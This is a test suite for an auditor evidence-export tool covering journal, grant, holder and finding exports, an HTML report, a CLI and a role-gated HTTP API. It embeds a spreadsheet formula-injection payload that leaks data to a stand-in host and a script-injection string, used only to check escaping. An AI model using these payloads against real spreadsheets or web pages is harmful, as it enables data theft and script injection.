import { HttpRequest, HttpResponse, InvocationContext } from '@azure/functions';
import { describe, expect, it } from 'vitest';
import { easyAuthAuthenticator } from '../../../lib/auth/easyAuthPrincipal.js';
import { exportCommand } from '../../../cli/export.js';
import { ManualClock } from '../../../lib/clock.js';
import { CSV_BOM, restoreFormula } from '../../../lib/evidence/csv.js';
import type { EvidenceDeps } from '../../../lib/evidence/evidenceDeps.js';
import { createEvidenceHttpHandler } from '../../../lib/triggers/evidenceHttpHandler.js';
import { exportEvidence } from '../../../lib/evidence/exportEvidence.js';
import type { JournalEntry } from '../../../lib/ports/index.js';
import { entryRowKey } from '../../../lib/hashChain.js';
import { openTestStore, testAnchors } from '../../support/store.js';
import { captureIo } from '../../../testkit/captureIo.js';
import { csvObjects, INJECTION, LIDIA_TOKEN, seedHistory, T } from './support.js';

const clock = new ManualClock('2026-03-01T14:00:00Z');

async function seeded() {
  const store = openTestStore(clock);
  const seed = await seedHistory(store);
  const deps: EvidenceDeps = {
    journalRows: store.journalRows,
    grants: store.grants,
    usage: store.usage,
    anchors: testAnchors(),
    clock,
  };
  return { store, deps, ...seed };
}

async function collect(
  deps: EvidenceDeps,
  request: Parameters<typeof exportEvidence>[1],
): Promise<{ text: string; ok: boolean }> {
  const prepared = await exportEvidence(deps, request);
  let text = '';
  for await (const chunk of prepared.body) text += chunk;
  return { text, ok: prepared.integrity.ok };
}

async function storedJournal(deps: EvidenceDeps): Promise<JournalEntry[]> {
  const out: JournalEntry[] = [];
  for await (const row of deps.journalRows.rows()) if (row.entry) out.push(row.entry);
  return out;
}

describe('auditor exports (Azurite)', () => {
  it('round-trips the journal through CSV, JSON and NDJSON', async () => {
    const { deps } = await seeded();
    const journal = await storedJournal(deps);
    expect(journal).toHaveLength(13);

    const csv = await collect(deps, { kind: 'journal', format: 'csv', period: {} });
    expect(csv.text.startsWith(CSV_BOM)).toBe(true);
    const rows = csvObjects(csv.text.slice(1));
    expect(
      rows.map((r) => ({
        seq: Number(r.seq),
        at: r.at,
        type: r.type,
        actor: r.actor,
        subject: r.subject,
        reason: restoreFormula(r.reason ?? '') || undefined,
        data: JSON.parse(r.data ?? ''),
        prevHash: r.prevHash,
        hash: r.hash,
      })),
    ).toEqual(journal);

    const json = JSON.parse((await collect(deps, { kind: 'journal', format: 'json', period: {} })).text) as {
      kind: string;
      integrity: { ok: boolean };
      records: JournalEntry[];
    };
    expect(json).toMatchObject({ kind: 'journal', integrity: { ok: true, entries: 13 } });
    expect(json.records).toEqual(journal);

    const ndjson = (
      await collect(deps, { kind: 'journal', format: 'ndjson', period: { from: T('09:00'), to: T('12:00') } })
    ).text;
    const lines = ndjson
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as JournalEntry);
    expect(lines).toEqual(journal.filter((e) => e.at >= T('09:00') && e.at < T('12:00')));
  });

  it('exports grants with their approvals and neutralises a formula-injection justification', async () => {
    const { deps, grant } = await seeded();
    const csv = await collect(deps, { kind: 'grants', format: 'csv', period: { from: T('08:00'), to: T('14:00') } });
    const [row, ...rest] = csvObjects(csv.text.slice(1));
    expect(rest).toEqual([]);
    expect(row?.justification).toBe(`'${INJECTION}`);
    expect(restoreFormula(row?.justification ?? '')).toBe(grant.justification);
    expect(row).toMatchObject({
      id: 'g-1',
      ticket: grant.ticket,
      approvedBy: 'lidiah@contoso.onmicrosoft.com',
      status: 'revoked',
    });
    expect(row?.approvals).toBe(
      `approved by lidiah@contoso.onmicrosoft.com at ${T('09:05')} via api token (oid ${LIDIA_TOKEN.oid}, tid ${LIDIA_TOKEN.tid}, app ${LIDIA_TOKEN.appId}, issuer ${LIDIA_TOKEN.issuer})`,
    );
    expect(row?.approvedVia).toBe('api');
    expect(Object.values(row ?? {}).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);

    const json = JSON.parse((await collect(deps, { kind: 'grants', format: 'json', period: {} })).text) as {
      records: { grant: unknown; history: { type: string }[] }[];
    };
    expect(json.records[0]?.grant).toEqual(grant);
    expect(json.records[0]?.history.map((h) => h.type)).toEqual([
      'grant.requested',
      'grant.approved',
      'grant.activated',
      'grant.revoked',
    ]);
    expect(
      (await collect(deps, { kind: 'grants', format: 'csv', period: { from: T('13:00') } })).text.split('\r\n'),
    ).toHaveLength(2);
  });

  it('exports holder periods and findings with how they were resolved', async () => {
    const { deps, alex, lynne, adele } = await seeded();
    const holders = csvObjects((await collect(deps, { kind: 'holders', format: 'csv', period: {}, bom: false })).text);
    // Each period says its source: the audit's reads, or the grant's own events (activation to verified removal).
    expect(holders.map((h) => [h.principal, h.scope, h.from, h.until, h.endedBy, h.source, h.grantId])).toEqual([
      [lynne.principal, 'Organization', T('08:00'), T('11:00'), 'changed', 'audit', ''],
      [alex.principal, 'Organization', T('08:00'), T('12:15'), 'removed', 'audit', ''],
      [adele.principal, 'Organization', T('09:10'), T('13:00'), 'removed', 'grant', 'g-1'],
      [adele.principal, 'Organization', T('09:15'), T('13:05'), 'removed', 'audit', ''],
      [lynne.principal, 'Sales OU', T('11:00'), '', '', 'audit', ''],
    ]);
    expect(holders[2]).toMatchObject({ path: 'direct assignment of grant g-1', assignmentGuid: adele.assignmentGuid });
    expect(holders[4]).toMatchObject({
      firstSeen: T('08:00'),
      startedBy: 'changed',
      path: 'via role group PST Migration Operators',
    });
    const afterAlex = csvObjects(
      (await collect(deps, { kind: 'holders', format: 'csv', period: { from: T('12:15') }, bom: false })).text,
    );
    expect(afterAlex.map((h) => [h.principal, h.source])).toEqual([
      [adele.principal, 'grant'],
      [adele.principal, 'audit'],
      [lynne.principal, 'audit'],
    ]);

    const findings = JSON.parse((await collect(deps, { kind: 'findings', format: 'json', period: {} })).text) as {
      records: Record<string, unknown>[];
    };
    expect(findings.records).toEqual([
      expect.objectContaining({
        finding: expect.objectContaining({ id: 'unapproved|alexw', kind: 'unapproved' }),
        openedAt: T('10:00'),
        resolvedAt: T('12:15'),
        resolvedBy: 'watchdog',
        resolution: 'holder gone',
        actions: [
          expect.objectContaining({
            type: 'assignment.removed',
            actor: 'pattif@contoso.onmicrosoft.com',
            reason: 'no grant, removed by the security team',
          }),
        ],
      }),
    ]);
  });

  it('writes an HTML report with every user-provided text escaped', async () => {
    const { deps } = await seeded();
    const { text, ok } = await collect(deps, {
      kind: 'journal',
      format: 'html',
      period: { from: T('08:00'), to: T('14:00') },
    });
    expect(ok).toBe(true);
    // The summary comes first: chain and anchor status, holders now, each grant with its approver and channel.
    const summary = text.slice(text.indexOf('<h2>Summary</h2>'), text.indexOf('<h2>Integrity</h2>'));
    expect(text.indexOf('<h2>Summary</h2>')).toBeLessThan(text.indexOf('<h2>Holders over time</h2>'));
    expect(summary).toContain('<span class="ok">intact: 13 entries, through seq 13</span>');
    expect(summary).toContain('none yet: nothing written-once to check the chain against');
    expect(summary).toContain('<td data-label="principal">lynner@contoso.onmicrosoft.com</td>');
    expect(summary).toContain(
      `<td data-label="approved by">lidiah@contoso.onmicrosoft.com</td><td data-label="verified as">api token (oid ${LIDIA_TOKEN.oid}`,
    );
    expect(summary).toContain('1 opened, 1 resolved in the period; 0 still open');
    // Phone width and print: the viewport, stacking tables, and a print stylesheet.
    expect(text).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
    expect(text).toContain('table.data td[data-label]::before');
    expect(text).toContain('@media print{');
    expect(text).toContain('&lt;script&gt;alert(&quot;Adele&quot;)&lt;/script&gt;');
    expect(text).not.toContain('<script>');
    expect(text).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
    expect(text).toContain(
      `approved by lidiah@contoso.onmicrosoft.com at ${T('09:05')} via api token (oid ${LIDIA_TOKEN.oid}`,
    );
    expect(text).toContain('assignment.removed by pattif@contoso.onmicrosoft.com');
    expect(text).toContain('1 grant(s) overlap the period.');
  });

  it('mie-watchdog export streams to stdout, reports the chain on stderr and exits 1 when it is broken', async () => {
    const { store, deps } = await seeded();
    const io = captureIo();
    expect(
      await exportCommand(['--format', 'ndjson', '--kind', 'holders', '--from', '2026-03-01T12:00:00Z'], io, deps),
    ).toBe(0);
    // From noon: alex's period, the grant's and the audit's of adele, lynne's current one.
    expect(io.stdout.trimEnd().split('\n')).toHaveLength(4);
    expect(io.stderr).toContain('Journal intact: 13 entries');
    await expect(exportCommand(['--format', 'xml'], captureIo(), deps)).rejects.toThrow(
      '--format must be one of csv, json, ndjson, html',
    );
    await expect(
      exportCommand(['--format', 'csv', '--from', '2026-03-02', '--to', '2026-03-01'], captureIo(), deps),
    ).rejects.toThrow('must be before --to');

    await (
      await store.tables.table('journal')
    ).updateEntity({ partitionKey: 'journal', rowKey: entryRowKey(3), reason: 'a nicer justification' }, 'Merge');
    const broken = captureIo();
    expect(await exportCommand(['--format', 'csv'], broken, deps)).toBe(1);
    expect(broken.stderr).toContain(`seq 3, row ${entryRowKey(3)} [hash]`);
    expect(csvObjects(broken.stdout.slice(1))[2]?.reason).toBe('a nicer justification');
  });
});

function principalHeader(roles: string[]): string {
  const claims = [
    { typ: 'upn', val: 'auditor@contoso.onmicrosoft.com' },
    {
      typ: 'http://schemas.microsoft.com/identity/claims/objectidentifier',
      val: '5d2a7c1e-3b4f-4a6d-9e8f-0a1b2c3d4e5f',
    },
    ...roles.map((val) => ({ typ: 'roles', val })),
  ];
  return Buffer.from(JSON.stringify({ auth_typ: 'aad', claims })).toString('base64');
}

describe('auditor HTTP API', () => {
  const context = () => new InvocationContext({ functionName: 'auditExport' });
  const get = (path: string, roles?: string[]) =>
    new HttpRequest({
      method: 'GET',
      url: `http://localhost/api/evidence/${path}`,
      headers: roles ? { 'x-ms-client-principal': principalHeader(roles) } : {},
    });

  it('refuses callers without an identity (401) or without Audit.Read (403)', async () => {
    const { deps } = await seeded();
    const handler = createEvidenceHttpHandler({ deps: () => deps, authenticate: easyAuthAuthenticator });
    const anonymous = await handler(get('export?format=csv'), context());
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers).toMatchObject({ 'content-type': 'application/problem+json' });
    const requester = await handler(get('export?format=csv', ['Grant.Request']), context());
    expect(requester.status).toBe(403);
    expect(JSON.parse(String(requester.body))).toMatchObject({ role: 'Audit.Read' });
  });

  it('streams an export, answers holders-at-T and verification, and names bad query fields', async () => {
    const { deps, store } = await seeded();
    const handler = createEvidenceHttpHandler({ deps: () => deps, authenticate: easyAuthAuthenticator });
    const csv = await handler(get('export?kind=grants&format=csv&from=2026-03-01', ['Audit.Read']), context());
    expect(csv.status).toBe(200);
    expect(csv.headers).toMatchObject({ 'content-type': 'text/csv; charset=utf-8', 'x-watchdog-chain': 'intact' });
    expect((csv.headers as Record<string, string>)['content-disposition']).toBe(
      'attachment; filename="mie-watchdog-grants-2026-03-01T000000000Z-2026-03-01T140000000Z.csv"',
    );
    const body = await new HttpResponse(csv).text();
    expect(csvObjects(body.replace(CSV_BOM, ''))[0]?.justification).toBe(`'${INJECTION}`);

    const holders = await handler(get(`holders?at=${encodeURIComponent(T('09:30'))}`, ['Audit.Read']), context());
    expect(JSON.parse(String(holders.body))).toMatchObject({ recorded: true, integrity: { ok: true } });
    expect((JSON.parse(String(holders.body)) as { holders: unknown[] }).holders).toHaveLength(3);

    const report = await handler(get('report', ['Audit.Read']), context());
    expect(await new HttpResponse(report).text()).toContain('<h1>Mailbox Import Export evidence</h1>');

    const bad = await handler(get('export?format=xlsx', ['Audit.Read']), context());
    expect(bad.status).toBe(400);
    expect(JSON.parse(String(bad.body))).toMatchObject({ field: 'format' });
    expect((await handler(get('holders', ['Audit.Read']), context())).status).toBe(400);
    const impossible = await handler(get('holders?at=2026-02-30T00:00:00Z', ['Audit.Read']), context());
    expect(impossible.status).toBe(400);
    expect(JSON.parse(String(impossible.body))).toMatchObject({ field: 'at' });
    expect((await handler(get('export?format=csv&from=2026-04-31', ['Audit.Read']), context())).status).toBe(400);
    expect((await handler(get('nothing', ['Audit.Read']), context())).status).toBe(404);

    await (await store.tables.table('journal')).deleteEntity('journal', entryRowKey(13));
    const verify = await handler(get('verify', ['Audit.Read']), context());
    expect(verify.headers).toMatchObject({ 'x-watchdog-chain': 'broken' });
    expect(JSON.parse(String(verify.body))).toMatchObject({ ok: false, problems: [{ kind: 'head', seq: 13 }] });
  });
});
